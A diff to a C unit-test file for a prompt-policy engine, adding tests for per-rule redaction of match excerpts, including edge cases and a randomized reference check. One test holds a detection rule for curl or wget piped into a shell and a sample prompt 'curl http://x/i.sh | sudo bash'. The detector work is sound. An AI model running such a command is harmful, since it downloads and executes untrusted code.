@@ -1,6 +1,6 @@
 /* test_policy.c - gov_policy: request validation, evaluation, response body.
  *
- * Known answers: tests/vectors/policy/cases.json (42 cases).  Its decisions,
+ * Known answers: tests/vectors/policy/cases.json (45 cases).  Its decisions,
  * scores and reason lists are hand-computed in tests/vectors/policy/gen.py;
  * the input digests come from the PyPI rfc8785 package + hashlib, the first
  * match offsets from a brute-force search with Python's re, and the expected
@@ -11,9 +11,11 @@
  * runs, fresh or shared scratch; (b) adding a rule that matches never lowers
  * the score nor softens the decision; (c) the score is the clamped sum;
  * (d) the declaration order of rules changes no byte of the response; (e) a
- * case-insensitive literal and the equivalent regex agree.  Also: excerpts
- * are valid UTF-8 next to multi-byte characters, allocation failures are
- * clean, and a 1 MiB prompt against a 500-rule pack scans correctly.
+ * case-insensitive literal and the equivalent regex agree; (f) redaction
+ * masks exactly what a reference search written here says.  Also: excerpts
+ * are valid UTF-8 next to multi-byte characters, the redact member and the
+ * edges of masking by hand, allocation failures are clean, and a 1 MiB
+ * prompt against a 500-rule pack scans correctly.
  *
  * Data files are found under $GOV_ROOT, else the current directory.
  */
@@ -1054,6 +1056,231 @@ static void test_excerpt_emoji_prompt(void **state) {
     gov_rulepack_free(p);
 }
 
+/* ---- redaction ------------------------------------------------------------------------------ */
+
+static const gov_policy_reason_t *reason_of(const gov_policy_decision_t *d, const char *id) {
+    for (size_t i = 0; i < d->nreasons; i++)
+        if (strcmp(d->reasons[i].rule_id, id) == 0)
+            return &d->reasons[i];
+    fail_msg("no reason %s", id);
+    return NULL;
+}
+
+static void request_with_prompt(const char *prompt, gov_policy_request_t *req) {
+    json_t *rq = json_pack("{s:s,s:s,s:s,s:s,s:s}", "tenant", "demo", "session_id", "s", "user",
+                           "u", "role", "r", "prompt", prompt);
+    request_from_json(rq, req);
+    json_decref(rq);
+}
+
+#define RULE_LIT(id, lit, extra)                                                            \
+    "{\"id\":\"" id "\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\","       \
+    "\"message\":\"m\"" extra ",\"match\":{\"prompt\":[{\"literal\":\"" lit "\"}]}}"
+
+/* The redact member: its default by id namespace, explicit values both
+ * ways, its type checked; and what each choice shows. */
+static void test_redact_member(void **state) {
+    (void)state;
+    gov_rulepack_t *p = pack_from_text(
+        "{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
+        RULE_LIT("pii.a", "AAA", "") "," RULE_LIT("secrets.b", "BBB", ",\"redact\":false") ","
+        RULE_LIT("other.c", "CCC", "") "," RULE_LIT("other.d", "DDD", ",\"redact\":true") ","
+        RULE_LIT("secretsx", "EEE", "") ","
+        "{\"id\":\"role.only\",\"severity\":\"low\",\"weight\":0,\"effect\":\"add\","
+        "\"message\":\"m\",\"redact\":true,\"match\":{\"role\":[\"r\"]}}]}");
+    static const struct {
+        const char *id;
+        int redact;
+    } want[] = {{"other.c", 0}, {"other.d", 1}, {"pii.a", 1}, {"role.only", 1},
+                {"secrets.b", 0}, {"secretsx", 0}};
+    assert_int_equal(gov_rulepack_rule_count(p), 6);
+    for (size_t i = 0; i < 6; i++) {
+        assert_string_equal(gov_rulepack_rule(p, i)->id, want[i].id);
+        assert_int_equal(gov_rulepack_rule(p, i)->redact, want[i].redact);
+    }
+    gov_policy_constitution_t *c = constitution_from_text("{}");
+    gov_matcher_scratch_t *s = NULL;
+    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
+    gov_policy_request_t req;
+    gov_policy_decision_t d;
+    request_with_prompt("AAA BBB CCC DDD EEE", &req);
+    evaluate(c, p, &req, s, &d);
+    assert_string_equal(reason_of(&d, "pii.a")->excerpt, "*** *** *** *** ***");
+    assert_string_equal(reason_of(&d, "secrets.b")->excerpt, "*** BBB *** *** ***");
+    assert_string_equal(reason_of(&d, "other.c")->excerpt, "*** *** CCC *** ***");
+    assert_string_equal(reason_of(&d, "other.d")->excerpt, "*** *** *** *** ***");
+    assert_string_equal(reason_of(&d, "secretsx")->excerpt, "*** *** *** *** EEE");
+    assert_int_equal(reason_of(&d, "role.only")->has_excerpt, 0);
+    gov_policy_decision_clear(&d);
+    gov_policy_request_clear(&req);
+
+    /* Not a boolean: refused, naming the rule and the member. */
+    const char *bad = "{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
+                      RULE_LIT("pii.a", "AAA", ",\"redact\":1") "]}";
+    gov_rulepack_t *q = NULL;
+    gov_rulepack_error_t det;
+    char err[256] = "";
+    assert_int_equal(gov_rulepack_parse(bad, strlen(bad), NULL, &q, &det, err, sizeof err),
+                     GOV_ERR_VERIFY);
+    assert_null(q);
+    assert_int_equal(det.code, GOV_REASON_INVALID_TYPE);
+    assert_string_equal(det.field, "redact");
+    assert_string_equal(det.rule_id, "pii.a");
+    gov_matcher_scratch_free(s);
+    gov_policy_constitution_free(c);
+    gov_rulepack_free(p);
+}
+
+/* Overlapping matches, matches across both window edges, a pattern whose
+ * start Vectorscan cannot track, by hand. */
+static void test_redaction_edges(void **state) {
+    (void)state;
+    gov_rulepack_t *p = pack_from_text(
+        "{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
+        "{\"id\":\"secrets.tok\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\","
+        "\"message\":\"m\",\"match\":{\"prompt\":[{\"regex\":\"tok_[a-z0-9]{8}\"}]}},"
+        RULE_LIT("note.prefix", "tok_", "") "," RULE_LIT("note.mark", "MARK", "") ","
+        /* Vectorscan refuses start-of-match for this one ("Pattern is too large.") */
+        "{\"id\":\"shell.pipe\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\","
+        "\"message\":\"m\",\"match\":{\"prompt\":[{\"regex\":"
+        "\"\\\\b(?:curl|wget) [^|;\\\\n]{1,200}\\\\| *(?:sudo +)?(?:ba|z)?sh\\\\b\"}]}}]}");
+    const gov_matcher_t *m = gov_rulepack_matcher(p);
+    /* patterns in rule id order: note.mark, note.prefix, secrets.tok, shell.pipe */
+    assert_int_equal(gov_matcher_pattern_has_start(m, 0), 1);
+    assert_int_equal(gov_matcher_pattern_has_start(m, 2), 1);
+    assert_int_equal(gov_matcher_pattern_has_start(m, 3), 0);
+    gov_policy_constitution_t *c = constitution_from_text("{}");
+    gov_matcher_scratch_t *s = NULL;
+    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
+    gov_policy_request_t req;
+    gov_policy_decision_t d;
+
+    /* 10 x, a token over 10..22, 40 y, MARK over 62..66: MARK's window is
+     * [18, 82): it starts inside the token, whose bytes 18..22 are masked;
+     * a second token over 76..88 crosses its end: 76..82 masked.  The
+     * prefix rule (redact false) overlaps the token: masked anyway; its
+     * window [0, 64) ends inside MARK, another rule's match: "MA" masked. */
+    char prompt[256];
+    snprintf(prompt, sizeof prompt, "%s%s%s%s%s%s", "xxxxxxxxxx", "tok_abcd1234",
+             "yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy", "MARK", "zzzzzzzzzz", "tok_efgh5678zz");
+    request_with_prompt(prompt, &req);
+    evaluate(c, p, &req, s, &d);
+    const gov_policy_reason_t *r = reason_of(&d, "note.mark");
+    assert_int_equal(r->excerpt_start, 18);
+    assert_int_equal(r->excerpt_end, 82);
+    assert_string_equal(r->excerpt,
+                        "****yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyMARKzzzzzzzzzz******");
+    r = reason_of(&d, "note.prefix");
+    assert_int_equal(r->excerpt_start, 0);
+    assert_string_equal(r->excerpt,
+                        "xxxxxxxxxx************yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy**");
+    gov_policy_decision_clear(&d);
+    gov_policy_request_clear(&req);
+
+    /* A match without a known start masks everything before its end in the
+     * window of another rule (here: all of MARK's window up to "bash", the
+     * first MARK too); shell.pipe (redact false) still shows its own match,
+     * never MARK's. */
+    request_with_prompt("MARK curl http://x/i.sh | sudo bash then MARK", &req);
+    evaluate(c, p, &req, s, &d);
+    r = reason_of(&d, "note.mark");
+    assert_string_equal(r->excerpt, "*********************************** then MARK");
+    r = reason_of(&d, "shell.pipe");
+    assert_string_equal(r->excerpt, "**** curl http://x/i.sh | sudo bash then ****");
+    gov_policy_decision_clear(&d);
+    gov_policy_request_clear(&req);
+    gov_matcher_scratch_free(s);
+    gov_policy_constitution_free(c);
+    gov_rulepack_free(p);
+}
+
+/* Random prompts of tokens, prefixes, words and multi-byte characters
+ * against a reference written here: each excerpt byte is '*' exactly when
+ * its character holds a byte of a match of another rule, or of its own rule
+ * when that rule redacts; otherwise it is the prompt's byte. */
+static void test_redaction_vs_reference(void **state) {
+    (void)state;
+    gov_rulepack_t *p = pack_from_text(
+        "{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\",\"rules\":["
+        "{\"id\":\"secrets.tok\",\"severity\":\"low\",\"weight\":0.1,\"effect\":\"add\","
+        "\"message\":\"m\",\"match\":{\"prompt\":[{\"regex\":\"tok_[a-z0-9]{8}\"}]}},"
+        RULE_LIT("note.prefix", "tok_", "") "," RULE_LIT("note.hello", "hello", "") ","
+        RULE_LIT("pii.accent", "\xc3\xa9t\xc3\xa9", "") "]}");
+    static const char *const frags[] = {"tok_abcd1234", "tok_", "hello", "\xc3\xa9t\xc3\xa9",
+                                        "\xc3\xa9", "\xf0\x9f\x99\x82", "x", " ", "abcd12",
+                                        "\xe2\x82\xac"};
+    static const char *const lits[] = {"tok_", "hello", "\xc3\xa9t\xc3\xa9"};
+    static const char *const lit_rule[] = {"note.prefix", "note.hello", "pii.accent"};
+    gov_policy_constitution_t *c = constitution_from_text("{}");
+    gov_matcher_scratch_t *s = NULL;
+    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
+    rng_state = 99;
+    long masked_total = 0;
+    for (int iter = 0; iter < 300; iter++) {
+        char prompt[1024];
+        size_t len = 0;
+        int n = 1 + (int)rnd(40);
+        for (int k = 0; k < n; k++) {
+            const char *f = frags[rnd(sizeof frags / sizeof frags[0])];
+            memcpy(prompt + len, f, strlen(f));
+            len += strlen(f);
+        }
+        prompt[len] = '\0';
+        /* cover[x]: bit i for rule i of {secrets.tok, note.prefix, note.hello, pii.accent} */
+        unsigned char cover[1024];
+        memset(cover, 0, len);
+        for (size_t i = 0; i + 12 <= len; i++) {
+            int ok = memcmp(prompt + i, "tok_", 4) == 0;
+            for (size_t k = 4; ok && k < 12; k++)
+                ok = (prompt[i + k] >= 'a' && prompt[i + k] <= 'z') ||
+                     (prompt[i + k] >= '0' && prompt[i + k] <= '9');
+            for (size_t k = 0; ok && k < 12; k++)
+                cover[i + k] |= 1;
+        }
+        for (int l = 0; l < 3; l++)
+            for (size_t i = 0; i + strlen(lits[l]) <= len; i++)
+                if (memcmp(prompt + i, lits[l], strlen(lits[l])) == 0)
+                    for (size_t k = 0; k < strlen(lits[l]); k++)
+                        cover[i + k] |= (unsigned char)(2u << l);
+        gov_policy_request_t req;
+        gov_policy_decision_t d;
+        request_with_prompt(prompt, &req);
+        evaluate(c, p, &req, s, &d);
+        for (size_t i = 0; i < d.nreasons; i++) {
+            const gov_policy_reason_t *r = &d.reasons[i];
+            unsigned own = strcmp(r->rule_id, "secrets.tok") == 0 ? 1u : 0u;
+            for (int l = 0; l < 3; l++)
+                if (strcmp(r->rule_id, lit_rule[l]) == 0)
+                    own = 2u << l;
+            int redacts = strcmp(r->rule_id, "secrets.tok") == 0 ||
+                          strcmp(r->rule_id, "pii.accent") == 0;
+            unsigned hide = redacts ? 0xFFu : (unsigned)~own & 0xFFu;
+            assert_true(gov_utf8_valid(r->excerpt, r->excerpt_len));
+            for (size_t k = r->excerpt_start; k < r->excerpt_end;) {
+                unsigned char b = (unsigned char)prompt[k];
+                size_t cl = b >= 0xF0 ? 4 : b >= 0xE0 ? 3 : b >= 0xC0 ? 2 : 1;
+                int mask = 0;
+                for (size_t q = k; q < k + cl; q++)
+                    mask |= (cover[q] & hide) != 0;
+                for (size_t q = k; q < k + cl; q++) {
+                    char got = r->excerpt[q - r->excerpt_start];
+                    if (mask ? got != '*' : got != prompt[q])
+                        fail_msg("iter %d rule %s byte %zu: got %c, mask %d\nprompt %s\nexcerpt %s",
+                                 iter, r->rule_id, q, got, mask, prompt, r->excerpt);
+                }
+                masked_total += mask;
+                k += cl;
+            }
+        }
+        gov_policy_decision_clear(&d);
+        gov_policy_request_clear(&req);
+    }
+    assert_true(masked_total > 1000);   /* the property was exercised */
+    gov_matcher_scratch_free(s);
+    gov_policy_constitution_free(c);
+    gov_rulepack_free(p);
+}
+
 /* ---- the response body ---------------------------------------------------------------------- */
 
 static void test_response_escaping_and_extra_members(void **state) {
@@ -1344,6 +1571,9 @@ int main(void) {
         cmocka_unit_test(test_caseless_literal_vs_regex_rules),
         cmocka_unit_test(test_excerpt_window_utf8),
         cmocka_unit_test(test_excerpt_emoji_prompt),
+        cmocka_unit_test(test_redact_member),
+        cmocka_unit_test(test_redaction_edges),
+        cmocka_unit_test(test_redaction_vs_reference),
         cmocka_unit_test(test_response_escaping_and_extra_members),
         cmocka_unit_test(test_evaluate_argument_errors),
         cmocka_unit_test(test_allocation_failures),
